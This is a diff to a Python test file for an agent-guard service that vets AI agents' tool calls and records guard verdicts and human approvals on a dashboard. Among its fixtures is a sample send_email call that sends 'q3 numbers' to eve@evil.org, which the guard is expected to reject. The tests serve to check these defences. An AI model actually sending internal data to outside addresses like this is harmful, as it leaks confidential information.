@@ -57,7 +57,7 @@ def populate(base: str, headers: dict | None = None) -> str:
     return "household-42"
 
 
-def make_app(tmp_path: Path, step_decision: str = "REJECT", credentials_file: Path | None = None):
+def make_app(tmp_path: Path, step_decision: str = "REJECT", credentials_file: Path | None = None, tool=None):
     """The service with Pro2Guard's ProactiveGuard on a 5-state DTMC and a threshold monitor."""
     from agentguard.predictive.guard import ProactiveGuard
     from agentguard.server.app import create_app
@@ -68,6 +68,8 @@ def make_app(tmp_path: Path, step_decision: str = "REJECT", credentials_file: Pa
     s = (ServerSettings(token=TOKEN, state_dir=str(tmp_path / "data")) if credentials_file is None else
          ServerSettings(credentials_file=str(credentials_file), state_dir=str(tmp_path / "data")))
     g = default_guards(s)
+    if tool is not None:  # the /v1/check stack (default: the verified Mind2Web-SC policy)
+        g.tool = tool
     m = _model()
     g.step = ProactiveGuard(m, "G !unsafe", threshold=0.5, decision=step_decision)
     g.signal = ThresholdMonitor(0.5, signal="verifier", name="verifier-monitor")
@@ -191,7 +193,7 @@ def test_dashboard_tells_the_story_of_a_run(tmp_path):
             rows = page.eval_on_selector_all("#decisions tbody tr", "rs => rs.map(r => [...r.children].map(c => c.textContent))")
             steps = [r for r in rows if r[2] == "step"]
             assert [int(r[0]) for r in rows] == sorted(int(r[0]) for r in rows)  # in order
-            assert steps and all(r[3].startswith("find Pot") and "[state" in r[3] for r in steps)
+            assert steps and all(r[3] == "find Pot" and r[4].startswith("[state") for r in steps)
             assert page.locator("#dtmc-current").count() == 1  # the run's current state is ringed
             legend = page.locator("#dtmc-legend").text_content()
             assert "fire: unsafe" in legend and "this run is in state" in legend
@@ -207,8 +209,8 @@ def test_dashboard_tells_the_story_of_a_run(tmp_path):
             page.select_option("#f-decision", "")
             guards = [g for g in page.eval_on_selector_all("#f-guard option", "os => os.map(o => o.value)") if g]
             page.select_option("#f-guard", guards[0])
-            shown = page.eval_on_selector_all("#decisions tbody tr td:nth-child(5)", "cs => cs.map(c => c.textContent)")
-            assert shown and set(shown) == {guards[0]}
+            shown = page.eval_on_selector_all("#decisions tbody tr td:nth-child(7)", "cs => cs.map(c => c.textContent)")
+            assert shown and all(guards[0] + ": " in c for c in shown)  # the deciding guard's verdict is shown
             # the halted run: labelled halted in the list and in its header, with the reason
             assert story["halted"]
             if story["halted"]:
@@ -222,3 +224,74 @@ def test_dashboard_tells_the_story_of_a_run(tmp_path):
             b.close()
     assert (shots / "dashboard-story.png").stat().st_size > 10_000
     assert [e["action"]["name"] for e in story["events"]] == ["light_fire"] * len(story["events"])
+
+
+def test_one_run_by_url_shows_each_tool_call_its_arguments_verdicts_and_approver(tmp_path):
+    """Issue 29: a run of /v1/check decisions (an allowed call, a refused one, an escalation a human approves),
+    opened by its URL: the story comes first (above the transition table) and every decision shows its tool call,
+    its arguments, the guards' verdicts and, for the approval, who approved. Screenshot saved."""
+    _need_browser()
+    from svc_roles import AGENT, APPROVER, READER, credentials_file
+
+    from agentguard.server.browser import screenshot_dashboard
+    from agentguard.server.testing import serve_in_thread
+
+    from agentguard.config import load_stack
+
+    tools = tmp_path / "tools.toml"
+    tools.write_text('[[guards]]\ntype = "tool-rules"\nname = "rules"\nallow = ["read_*", "send_*", "delete_*"]\n'
+                     'escalate = ["delete_*"]\n[[guards]]\ntype = "tool-rules"\nname = "internal-mail"\n'
+                     '[[guards.arguments]]\ntool = "send_email"\narg = "to"\nmatch = \'.+@example\\\\.com\'\n')
+    app = make_app(tmp_path, credentials_file=credentials_file(tmp_path, (AGENT, APPROVER, READER)),
+                   tool=load_stack(tools))
+    calls = [{"name": "read_file", "arguments": {"path": "notes/q3.txt"}, "call_id": "c1"},
+             {"name": "send_email", "arguments": {"to": "eve@evil.org", "body": "q3 numbers"}, "call_id": "c2"},
+             {"name": "delete_file", "arguments": {"path": "/tmp/old-report.pdf"}, "call_id": "c3"}]
+    shot = Path(os.environ.get("AGENTGUARD_SCREENSHOT_DIR") or tmp_path) / "dashboard-run-tool-calls.png"
+    with serve_in_thread(app) as base:
+        with httpx.Client(base_url=base, headers=AGENT.headers, timeout=10) as c:
+            out = [c.post("/v1/check", json={"run_id": "support-bot-9", "tool_call": t}).json() for t in calls]
+        assert [o["decision"] for o in out] == ["ALLOW", "REJECT", "ESCALATE"]
+        ok = httpx.post(f"{base}/v1/approvals", headers=APPROVER.headers, timeout=10, json={
+            "decision_id": out[2]["decision_id"], "run_id": "support-bot-9", "tool_call": calls[2], "approved": True})
+        assert ok.json()["decision"] == "ALLOW"
+        info = screenshot_dashboard(base, READER.token, shot, run_id="support-bot-9")
+    assert info["page_errors"] == [] and info["run"] == "support-bot-9" and info["url"] == "/dashboard?run=support-bot-9"
+    assert info["storyAboveModel"]
+    rows = info["visibleDecisions"]  # innerText: what is rendered on screen
+    assert len(rows) == 4
+    for row, call in zip(rows, calls + [calls[2]]):
+        assert row[3] == call["name"]
+        for k, v in call["arguments"].items():
+            assert k in row[4] and v in row[4]
+    assert [r[5] for r in rows] == ["ALLOW", "REJECT", "ESCALATE", "ALLOW"]
+    assert "internal-mail: REJECT" in rows[1][6] and "eve@evil.org" in rows[1][6]
+    assert "rules: ESCALATE" in rows[2][6] and "internal-mail: ALLOW" in rows[2][6]  # every guard's verdict
+    assert rows[2][7].startswith("alice@corp (approved)") and rows[3][7] == "alice@corp"
+    assert shot.stat().st_size > 10_000 and shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+def test_story_api_gives_each_check_decision_its_tool_call_verdicts_and_approver(tmp_path):
+    """Without a browser: ``GET /v1/runs/{id}/story`` of /v1/check decisions (was ``action: null``)."""
+    from fastapi.testclient import TestClient
+    from svc_roles import AGENT, APPROVER, READER, credentials_file
+
+    from agentguard.policies.rules import ToolRuleGuard
+
+    app = make_app(tmp_path, credentials_file=credentials_file(tmp_path, (AGENT, APPROVER, READER)),
+                   tool=ToolRuleGuard(allow=["read_*", "delete_*"], escalate=["delete_*"], name="rules"))
+    call = {"name": "delete_file", "arguments": {"path": "/tmp/x"}, "call_id": "c2"}
+    with TestClient(app) as c:
+        c.post("/v1/check", headers=AGENT.headers, json={"run_id": "r", "tool_call": {
+            "name": "read_file", "arguments": {"path": "a.txt"}}})
+        esc = c.post("/v1/check", headers=AGENT.headers, json={"run_id": "r", "tool_call": call}).json()
+        c.post("/v1/approvals", headers=APPROVER.headers, json={"decision_id": esc["decision_id"], "run_id": "r",
+                                                                "tool_call": call, "approved": False})
+        story = c.get("/v1/runs/r/story", headers=READER.headers).json()
+    ev = story["events"]
+    assert [(e["kind"], e["decision"]) for e in ev] == [("check", "ALLOW"), ("check", "ESCALATE"), ("approval", "REJECT")]
+    assert ev[0]["action"] == {"name": "read_file", "arguments": {"path": "a.txt"}, "call_id": ""}
+    assert ev[1]["action"]["arguments"] == {"path": "/tmp/x"} and ev[2]["action"] == ev[1]["action"]
+    assert ev[1]["verdicts"][0]["guard"] == "rules" and ev[1]["verdicts"][0]["decision"] == "ESCALATE"
+    assert ev[2]["approver"] == "alice@corp" and ev[1]["approver"] == "alice@corp (refused)"
+    assert ev[2]["answers"] == esc["decision_id"]
